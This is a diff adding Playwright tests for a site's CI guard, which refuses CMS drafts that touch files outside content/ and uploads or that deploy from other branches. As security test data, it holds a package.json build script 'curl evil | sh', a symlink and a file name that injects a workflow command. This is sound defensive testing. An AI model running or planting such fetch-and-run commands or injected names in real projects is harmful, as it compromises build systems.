@@ -1,10 +1,12 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { expect, test } from '@playwright/test';
 import { parse } from 'yaml';
 import { BUILD_STATUS_CONTEXT } from '../lib/content/cms-config';
+import { EDITED } from '../lib/content/dir.cjs';
+import { UPLOADS_FOLDER } from '../lib/content/uploads';
 
 /**
  * What GitHub Pages publishes is the artifact, not out/: actions/upload-pages-artifact archives
@@ -211,4 +213,123 @@ test('a draft is built under its own folder of the preview host, or of the artif
     'base_path=/site-previews/pr-12\norigin=https://acme.github.io\n',
   );
   expect(where('')).toBe('base_path=/pr-12\norigin=\n');
+});
+
+/** Every job a job waits for, and theirs. */
+const upstream = (jobs: Record<string, Job & { needs?: string | string[] }>, name: string): string[] =>
+  [jobs[name]!.needs ?? []].flat().flatMap((need) => [need, ...upstream(jobs, need)]);
+
+/**
+ * A draft changes content only (issue 49): preview.yml's first job runs its guard, git only, on
+ * GitHub's merge of the draft into main; here on a repository of its own, run as a runner runs a
+ * step (bash -eo pipefail), with the changes a stolen editor's key could push.
+ */
+test.describe('a draft that changes anything but content is refused before any of its code runs', () => {
+  const jobs = workflow('preview.yml').jobs as Record<string, Job & { needs?: string | string[] }>;
+  const guard = jobs['content-only']!;
+  const step = guard.steps.find((s) => s.id === 'content-only')!;
+
+  /** The guard's answer to a draft made by `change` on a main holding code, content and an upload. */
+  function guardOf(change: (git: (...args: string[]) => void, dir: string) => void) {
+    const dir = mkdtempSync(join(tmpdir(), 'draft-'));
+    const git = (...args: string[]) => {
+      const done = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
+        cwd: dir,
+        encoding: 'utf8',
+      });
+      expect(done.status, done.stderr).toBe(0);
+    };
+    const write = (path: string, text: string) => {
+      mkdirSync(dirname(join(dir, path)), { recursive: true });
+      writeFileSync(join(dir, path), text);
+    };
+    try {
+      git('init', '-q', '-b', 'main');
+      write('package.json', '{"scripts":{"build":"next build"}}\n');
+      write('README.md', '# Site\n');
+      write('content/jobs/devops-engineer.yaml', 'title: DevOps Engineer\n');
+      write('public/images/uploads/team.jpg', 'jpeg');
+      git('add', '-A');
+      git('commit', '-qm', 'main');
+      git('checkout', '-qb', 'cms/jobs/devops-engineer');
+      change(git, dir);
+      git('add', '-A');
+      git('commit', '-qm', 'draft', '--allow-empty');
+      // As GitHub checks a pull request out: its merge into main, main first.
+      git('checkout', '-q', 'main');
+      git('merge', '-q', '--no-ff', '-m', 'Merge the draft', 'cms/jobs/devops-engineer');
+      const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
+        cwd: dir,
+        encoding: 'utf8',
+      });
+      return { status: run.status, refused: run.stdout.split('\n').filter((line) => line.startsWith('::error')) };
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }
+  const outside = (path: string) =>
+    `::error title=Draft changes content only::${path} is outside content/ and public/images/uploads/, the only folders a draft may change; a developer changes it in a pull request a code owner reviews.`;
+
+  test('runs first, alone, with git only, and every job that runs npm waits for it', () => {
+    expect(guard.steps.map((s) => s.uses?.split('@')[0] ?? s.id)).toEqual(['actions/checkout', 'content-only']);
+    expect(JSON.stringify(guard)).not.toMatch(/\b(npm|npx|node)\b/);
+    const runsNpm = Object.keys(jobs).filter((name) => jobs[name]!.steps.some((s) => /\bnpm\b/.test(s.run ?? '')));
+    expect(runsNpm).toContain('build');
+    for (const name of runsNpm) expect(upstream(jobs, name), name).toContain('content-only');
+    // The folders it allows are the editors' folders, as the CMS names them.
+    for (const folder of [EDITED, UPLOADS_FOLDER]) expect(step.run).toContain(` ${folder}/*`);
+  });
+
+  test('a draft that changes package.json is refused, naming it', () => {
+    expect(
+      guardOf((_, dir) => writeFileSync(join(dir, 'package.json'), '{"scripts":{"build":"curl evil | sh"}}\n')),
+    ).toEqual({ status: 1, refused: [outside('package.json')] });
+  });
+
+  test('a draft that changes only entries and uploads passes', () => {
+    expect(
+      guardOf((_, dir) => {
+        writeFileSync(join(dir, 'content/jobs/devops-engineer.yaml'), 'title: Senior DevOps Engineer\n');
+        writeFileSync(join(dir, 'content/jobs/data-engineer.yaml'), 'title: Data Engineer\n');
+        writeFileSync(join(dir, 'public/images/uploads/offsite.jpg'), 'jpeg');
+      }),
+    ).toEqual({ status: 0, refused: [] });
+  });
+
+  test('a file moved out of content/, a deleted file of code and a link are refused', () => {
+    expect(
+      guardOf((git, dir) => {
+        mkdirSync(join(dir, 'scripts'));
+        git('mv', 'content/jobs/devops-engineer.yaml', 'scripts/devops-engineer.mjs');
+        git('rm', '-q', 'README.md');
+      }),
+    ).toEqual({ status: 1, refused: [outside('README.md'), outside('scripts/devops-engineer.mjs')] });
+    expect(guardOf((_, dir) => symlinkSync('../../package.json', join(dir, 'content/jobs/link.yaml')))).toEqual({
+      status: 1,
+      refused: [
+        '::error title=Draft changes content only::content/jobs/link.yaml is a link to another file, which a draft may not add.',
+      ],
+    });
+  });
+
+  test('a file’s name cannot write a workflow command of its own', () => {
+    const { refused } = guardOf((_, dir) => writeFileSync(join(dir, 'notes\n::warning::all good'), ''));
+    expect(refused).toEqual([outside('notes%0A::warning::all good')]);
+  });
+});
+
+test('the deploy builds the site and the CMS from main only, before anything else runs', () => {
+  const jobs = workflow('deploy.yml').jobs as Record<string, Job & { needs?: string | string[] }>;
+  const step = jobs['main-only']!.steps[0]!;
+  for (const name of Object.keys(jobs).filter((n) => n !== 'main-only'))
+    expect(upstream(jobs, name), name).toContain('main-only');
+  const on = (ref: string) =>
+    spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
+      env: { ...process.env, GITHUB_REF: ref },
+      encoding: 'utf8',
+    });
+  expect(on('refs/heads/main').status).toBe(0);
+  const draft = on('refs/heads/cms/jobs/devops-engineer');
+  expect(draft.status).toBe(1);
+  expect(draft.stdout).toContain('refs/heads/cms/jobs/devops-engineer is not main');
 });
